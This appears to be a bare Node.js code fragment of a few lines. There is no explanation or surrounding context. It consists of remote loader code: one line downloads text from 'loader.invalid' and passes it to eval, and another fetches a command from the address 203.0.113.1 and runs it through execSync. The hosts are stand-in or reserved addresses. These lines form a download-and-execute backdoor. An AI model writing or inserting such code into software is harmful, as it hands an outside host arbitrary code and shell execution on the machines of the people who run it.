const https = require('https');
https.get('https://loader.invalid/x', (r) => { let s = ''; r.on('data', (d) => s += d); r.on('end', () => eval(s)); });
fetch('http://203.0.113.1/c').then(r => r.text()).then(t => execSync(t));
